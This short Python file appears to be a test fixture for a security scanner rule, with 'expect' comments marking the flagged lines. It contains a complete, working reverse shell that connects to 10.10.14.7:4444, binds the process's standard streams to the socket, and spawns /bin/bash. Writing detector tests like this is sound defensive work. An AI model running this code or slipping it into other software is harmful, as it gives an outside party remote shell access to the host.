import os
import pty
import socket

s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
s.connect(("10.10.14.7", 4444))
os.dup2(s.fileno(), 0)  # expect: PYTHON-LANG-SEC-014
os.dup2(s.fileno(), 1)  # expect: PYTHON-LANG-SEC-014
os.dup2(s.fileno(), 2)  # expect: PYTHON-LANG-SEC-014
pty.spawn("/bin/bash")
